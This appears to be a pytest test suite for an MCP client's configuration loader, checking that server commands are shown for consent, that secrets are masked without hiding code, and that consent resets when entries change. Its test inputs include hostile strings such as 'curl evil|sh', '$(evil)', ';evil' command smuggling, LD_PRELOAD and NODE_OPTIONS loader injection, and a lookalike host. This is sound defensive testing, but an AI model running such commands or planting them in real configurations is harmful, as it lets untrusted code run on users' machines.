"""The file of an MCP client: what each form of it starts, and what is left out with which sentence."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mew_lab.bridge.config_consents import AdmittedServer, ConsentStore, admit_servers
from mew_lab.bridge.mcp_config import McpConfig, read_mcp_config
from mew_lab.bridge.secrets import hide_arguments
from mew_lab.errors import ConfigError
from mew_lab.protocol.token import Token, forget, mask
from mew_lab.protocol.visible import visible

from .config_files import CANARY, ENVIRON, FILES, ConfigFile


class Desk:
    """A person whose answers were written down before; `seen` is all that she was shown."""

    def __init__(self, *typed: str, allows: bool = True) -> None:
        self.typed = list(typed)
        self.allows = allows
        self.seen: list[str] = []
        self.secret: list[str] = []

    def show(self, text: str) -> None:
        self.seen.append(text)

    def allow(self, path: Path, name: str, lines: Sequence[str]) -> bool | None:
        self.seen.append("\n".join([f"{path} wants to start {name!r}", *(f"  {line}" for line in lines)]))
        return self.allows

    def ask(self, question: str, *, is_secret: bool = False) -> str | None:
        self.seen.append(question)
        if is_secret:
            self.secret.append(question)
        return self.typed.pop(0) if self.typed else None


@pytest.fixture(autouse=True)
def nothing_is_known(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """No secret of another test is masked in this one."""
    forget(Token(CANARY, remember=False))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    yield
    forget(Token(CANARY, remember=False))


def project(tmp_path: Path, file: ConfigFile) -> Path:
    folder = (tmp_path / "project").resolve()
    (folder / "sub").mkdir(parents=True, exist_ok=True)
    path = folder / file.path
    path.parent.mkdir(exist_ok=True)
    text = file.text() if callable(file.text) else file.text
    path.write_bytes(text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text)
    file.more(folder)
    return path


def admit(
    config: McpConfig, desk: Desk | None, **more: Any
) -> tuple[dict[str, AdmittedServer], dict[str, str]]:
    more = {"store": ConsentStore(None), "environ": ENVIRON, **more}
    admitted, left_out = admit_servers(config, person=desk, **more)
    return {server.name: server for server in admitted}, left_out


def test_there_are_forty_files_each_of_its_own_kind() -> None:
    assert len(FILES) == 40 == len({file.name for file in FILES})


@pytest.mark.threat(28)
@pytest.mark.parametrize("file", FILES, ids=lambda file: file.name)
def test_a_file_gives_its_servers_or_a_sentence_and_shows_no_secret(file: ConfigFile, tmp_path: Path) -> None:
    path = project(tmp_path, file)
    folder = tmp_path.resolve() / "project"
    desk = Desk(*file.typed)
    if file.fault:
        with pytest.raises(ConfigError) as caught:
            read_mcp_config(path)
        assert file.fault in str(caught.value) and CANARY not in f"{caught.value!r}{caught.value.__dict__}"
        assert caught.value.__cause__ is None
        return
    config = read_mcp_config(path)
    admitted, left_out = admit(config, desk)
    assert admitted.keys() == file.gives.keys()
    for name, words in file.gives.items():
        wanted = (
            words
            if isinstance(words, str)
            else [word.replace("{W}", str(folder)).replace("{N}", "project") for word in words]
        )
        command, options = admitted[name][1:]
        assert command == wanted
        got = options.get("env", options.get("headers", {}))
        got = {key: value.reveal() if isinstance(value, Token) else value for key, value in got.items()}
        assert got == file.env.get(name, {})
        if name in file.cwd:
            assert options["cwd"].resolve() == (folder / file.cwd[name]).resolve()
    assert left_out.keys() == file.left_out.keys()
    for name, part in file.left_out.items():
        assert part in left_out[name]
    shown = [
        *desk.seen,
        *left_out.values(),
        repr(admitted),
        repr(config),
        str(admitted),
        repr(config.servers),
    ]
    assert all(CANARY not in text and CANARY[:12] not in text for text in shown)
    assert all(line.isprintable() for text in (*desk.seen, *left_out.values()) for line in text.split("\n"))


def one_server(tmp_path: Path, entry: dict[str, Any], **more: Any) -> McpConfig:
    path = tmp_path / ".mcp.json"
    path.write_text(json.dumps({"mcpServers": {"a": entry}, **more}))
    return read_mcp_config(path)


# --- what a person is shown and asked ---


@pytest.mark.threat(28)
def test_a_person_sees_what_runs_and_what_it_gets_by_name_alone(tmp_path: Path) -> None:
    entry = {
        "command": "npx",
        "args": ["-y", "pack", "--port", "${PORT:-80}", "--api-key=" + CANARY, "-e", "X_TOKEN=" + CANARY,
                 "--header", f"Authorization: Bearer {CANARY}", "${input:key}", "${KEY:-" + CANARY + "}",
                 f"postgres://ada:{CANARY}@db/x"],
        "env": {"NODE_OPTIONS": "--require ./x.js", "API": CANARY},
    }  # fmt: skip
    (server,) = one_server(tmp_path, entry, inputs=[{"id": "key", "password": True}]).servers.values()
    lines = server.question()
    assert lines[0] == (
        "command  npx -y pack --port '${PORT:-80}' '--api-key=…' -e 'X_TOKEN=…' --header 'Authorization: …' "
        "'${input:key}' '${KEY:-…}' postgres://db/x"
    )
    assert lines[1:] == [
        f"folder   {tmp_path.resolve()}",
        "sets     NODE_OPTIONS, API",
        "! NODE_OPTIONS may decide which code it runs",
        "reads    KEY, PORT",
        "asks for key",
        f"digest   {server.digest}",
    ]


NO_CODE = re.compile(r"[\w.~+%=&:@,…-]")  # characters that by themselves start no program
EVIL = [
    "curl evil|sh",
    "$(evil)",
    "`evil`",
    "./evil.sh",
    "a;evil",
    "a\nevil",
    "require('evil')",
    "x" * 400 + ";evil",
]


@pytest.mark.threat(28)
@given(
    shape=st.sampled_from(
        [
            *(
                "TOKEN={}",
                "--api-key={}",
                "Authorization: {}",
                "Bearer {}",
                "${{KEY:-{}}}",
                "x://h?token={}",
                "x://h/{}",
            ),
            *("x://{}@h/p", "x://h#{}", "{} TOKEN=a", "sk-{}", "a8Bc9Dd0e1F2g3H4i5J6 {}", "{}"),
        ]
    ),
    evil=st.sampled_from(EVIL) | st.text(max_size=30).map(lambda text: f"{text};evil"),
    before=st.sampled_from(["-c", "--token", "-e", "run"]),
    remembered=st.booleans(),
)
@settings(max_examples=400, deadline=None)
def test_no_code_is_hidden_as_a_secret_from_whom_is_asked(
    tmp_path_factory: pytest.TempPathFactory, shape: str, evil: str, before: str, remembered: bool
) -> None:
    """Whoever is asked sees each character that a shell or a program could run; else nobody is asked."""
    if remembered:
        hide_arguments(["x", "--token", evil])
    folder = tmp_path_factory.mktemp("hidden")
    entry = {"command": "sh", "args": [before, shape.format(evil)]}
    config = one_server(folder, entry)
    desk = Desk(allows=False)
    admitted, left_out = admit(config, desk)
    assert not admitted
    if desk.seen:
        shown = "".join(desk.seen).replace("'\"'\"'", "'")
        assert NO_CODE.sub("", visible(evil)) in NO_CODE.sub("", shown)
    elif config.servers:
        assert "argument 2 holds what looks like a secret and may be code" in left_out["a"]
        assert config.servers["a"].digest in left_out["a"]


RANDOM = "a8f5f167f44f4964e6c998dee827110c"


@pytest.mark.threat(28)
@pytest.mark.parametrize(
    "words",
    [
        pytest.param(["npx", "-y", "--api-key", "evil", "@good/server"], id="after a name that npx does not know"),
        pytest.param(["npx", "-y", RANDOM], id="a package"),
        pytest.param(["npx", "-y", f"--package={RANDOM}", "good"], id="an option that names no secret"),
        pytest.param(["npx", "-y", "${API_KEY:-evil}", "good"], id="a default"),
        pytest.param(["npx", "-y", f"git+https://good.example/a#{RANDOM}"], id="a commit"),
        pytest.param(["python", "-m", RANDOM], id="a module"),
        pytest.param(["python", "-c", f"import {RANDOM}"], id="code"),
        pytest.param(["sh", "-c", f"./{RANDOM};token=1"], id="a script, and a name after it"),
        pytest.param(["sh", "-c", "./${API_KEY:-evil};x://y"], id="a default, and a URL after it"),
    ],
)  # fmt: skip
def test_a_word_that_may_be_the_program_is_not_hidden_as_a_secret(tmp_path: Path, words: list[str]) -> None:
    desk = Desk(allows=True)
    config = one_server(tmp_path, {"command": words[0], "args": words[1:]})
    admitted, left_out = admit(config, desk)
    hidden = next(n for n, word in enumerate(words) if RANDOM in word or "evil" in word)
    if desk.seen:  # asked: then the word is shown whole
        assert words[hidden] in desk.seen[0]
    else:
        assert not admitted
        assert left_out["a"].startswith(f"argument {hidden} holds what looks like a secret and may be code")


@pytest.mark.parametrize(
    "word",
    [f"--token={RANDOM}", f"X_TOKEN={RANDOM}", f"Authorization: Bearer {RANDOM}", f"https://host/mcp?key={RANDOM}",
     f"--db=postgres://ada:{RANDOM}@host/db", "--token=${API_KEY:-" + RANDOM + "}"],
)  # fmt: skip
def test_a_secret_that_belongs_to_a_name_is_hidden_and_may_be_allowed(tmp_path: Path, word: str) -> None:
    desk = Desk(allows=True)
    admitted, _ = admit(one_server(tmp_path, {"command": "npx", "args": ["pack", word]}), desk)
    assert list(admitted) == ["a"] and RANDOM not in "".join(desk.seen)


def test_an_address_is_shown_with_what_is_odd_about_its_host(tmp_path: Path) -> None:
    entry = {
        "url": f"https://xn--e1awd7f.com/mcp?key={CANARY}",
        "headers": {"Authorization": CANARY, "X": "y"},
    }
    (server,) = one_server(tmp_path, entry).servers.values()
    assert server.question()[:3] == [
        "address  https://xn--e1awd7f.com/mcp?…",
        "headers  Authorization, X",
        "! the host has letters of another script",
    ]


def test_a_password_is_asked_for_without_an_echo_and_once_for_all_servers(tmp_path: Path) -> None:
    path = tmp_path / ".mcp.json"
    servers = {name: {"command": "run", "args": ["${input:key}", "${input:open}"]} for name in "ab"}
    inputs = [{"id": "key", "password": True, "description": "the key"}, {"id": "open"}]
    path.write_text(json.dumps({"servers": servers, "inputs": inputs}))
    desk = Desk(CANARY, "plain")
    admitted, _ = admit(read_mcp_config(path), desk)
    assert [server.command for server in admitted.values()] == [["run", CANARY, "plain"]] * 2
    assert desk.secret == ["the key: "]
    assert CANARY not in mask(f"it said {CANARY}")


def test_an_input_that_nobody_answers_leaves_its_server_out(tmp_path: Path) -> None:
    config = one_server(
        tmp_path, {"command": "run", "args": ["${input:k}"]}, inputs=[{"id": "k", "default": "x"}]
    )
    (server,) = config.servers.values()
    assert admit(config, None, trusted=[server.digest]) == (
        {},
        {"a": "it asks for the input 'k', and nobody answered"},
    )
    assert admit(config, None, trusted=[server.digest], answers={"k": "given"})[0]["a"].command == [
        "run",
        "given",
    ]


# --- the consent ---


ENTRY: dict[str, Any] = {
    "command": "run", "args": ["${KEY}", "x"], "env": {"A": "1", "B": "${PORT}"}, "cwd": "sub",
}  # fmt: skip


def store(tmp_path: Path) -> ConsentStore:
    return ConsentStore(tmp_path / "state" / "mew-lab")


def asked(config: McpConfig, tmp_path: Path, **more: Any) -> bool:
    """Whether the person was asked about the one server."""
    desk = Desk()
    admitted, _ = admit(config, desk, store=store(tmp_path), **more)
    assert admitted
    return bool(desk.seen)


@pytest.mark.threat(28)
def test_a_yes_holds_until_the_entry_changes(tmp_path: Path) -> None:
    config = one_server(tmp_path, ENTRY)
    assert asked(config, tmp_path) and not asked(config, tmp_path)
    changes: list[dict[str, Any]] = [
        {"command": "other"}, {"args": ["${PORT}", "x"]}, {"args": ["x"]}, {"env": {"A": "2", "B": "${PORT}"}},
        {"env": {"A": "1", "C": "${PORT}"}}, {"cwd": "."}, {"type": "http", "url": "https://h.example"},
    ]  # fmt: skip
    for change in changes:
        assert asked(one_server(tmp_path, {**ENTRY, **change}), tmp_path), change
    assert not asked(one_server(tmp_path, {**ENTRY, "description": "new", "timeout": 9}), tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    assert asked(one_server(other, ENTRY), tmp_path)


def test_a_new_variable_of_the_file_with_variables_is_asked_for_and_a_new_value_of_a_loader(
    tmp_path: Path,
) -> None:
    file = tmp_path / "v.env"
    file.touch(0o600)

    def config(text: str) -> McpConfig:
        file.write_text(text)
        return one_server(tmp_path, {"command": "run", "envFile": "v.env"})

    assert asked(config("A=1\nPATH=/bin"), tmp_path)
    assert not asked(config("A=2\nPATH=/bin"), tmp_path)
    assert asked(config("A=2\nPATH=/evil"), tmp_path)
    assert asked(config("A=2\nB=2\nPATH=/bin"), tmp_path)
    assert asked(config("A=2\nPATH=/bin\nLD_PRELOAD=x"), tmp_path)


@pytest.mark.threat(28)
def test_a_yes_is_kept_for_its_owner_alone_and_never_within_the_project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = one_server(tmp_path, ENTRY)
    assert asked(config, tmp_path)
    (kept,) = (tmp_path / "state" / "mew-lab" / "servers").iterdir()
    assert kept.stat().st_mode & 0o777 == 0o600 and kept.parent.stat().st_mode & 0o777 == 0o700
    assert json.loads(kept.read_text())["digest"] == config.servers["a"].digest
    kept.chmod(0o666)  # others may have written it
    assert asked(config, tmp_path)
    # A state folder within the project, such as a stranger's repository may have, is not believed.
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path.parent))
    monkeypatch.setattr(Path, "home", lambda: tmp_path.parent)
    desk = Desk()
    admit(config, desk, store=ConsentStore.beside(config.folder))
    assert any("not kept" in text for text in desk.seen)


def test_without_a_person_a_digest_stands_for_the_yes(tmp_path: Path) -> None:
    config = one_server(tmp_path, ENTRY)
    digest = config.servers["a"].digest
    admitted, left_out = admit(config, None)
    assert not admitted and digest in left_out["a"] and "--trust-config" in left_out["a"]
    assert admit(config, None, trusted=[digest.upper()])[0]
    with pytest.raises(ConfigError, match="a digest is a SHA-256"):
        admit(config, None, trusted=[digest[:20]])
    assert admit(config, Desk(allows=False))[1]["a"] == f"it was not allowed; its digest is {digest}"


def test_an_unknown_name_of_a_server_is_told(tmp_path: Path) -> None:
    config = one_server(tmp_path, ENTRY)
    with pytest.raises(ConfigError, match="has no server 'b'; it has a"):
        admit(config, None, only=["b"])


# --- anything at all ---

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20)
    | st.sampled_from(["${KEY}", "${input:k}", "${", "stdio", "http", "https://h.example", CANARY, "../x", "${A:-b}"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)  # fmt: skip
MEMBERS = st.sampled_from(
    ["command", "args", "env", "cwd", "url", "headers", "type", "envFile", "disabled", "enabled", "x"]
)


@given(
    entries=st.dictionaries(
        st.text(max_size=8), st.dictionaries(MEMBERS, VALUES, max_size=6) | VALUES, max_size=3
    ),
    inputs=VALUES
    | st.lists(st.dictionaries(st.sampled_from(["id", "type", "options", "default"]), VALUES), max_size=3),
)
@settings(max_examples=300, deadline=None)
def test_any_document_gives_servers_or_sentences(
    tmp_path_factory: pytest.TempPathFactory, entries: Any, inputs: Any
) -> None:
    path = tmp_path_factory.mktemp("any") / ".mcp.json"
    path.write_text(json.dumps({"mcpServers": entries, "inputs": inputs}))
    config = read_mcp_config(path)
    desk = Desk("one", "two", "three")
    admitted, left_out = admit(config, desk)
    assert admitted.keys() | left_out.keys() == entries.keys() and not admitted.keys() & left_out.keys()
    for text in (*desk.seen, *left_out.values()):
        assert all(line.isprintable() for line in text.split("\n"))


@given(st.text(alphabet='{}[]",:/*\\ \n1ae'))
@settings(max_examples=500, deadline=None)
def test_any_text_is_read_or_refused_in_one_sentence(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    path = tmp_path_factory.mktemp("any") / ".mcp.json"
    path.write_text(text)
    try:
        read_mcp_config(path)
    except ConfigError as fault:
        assert str(fault) and fault.__cause__ is None
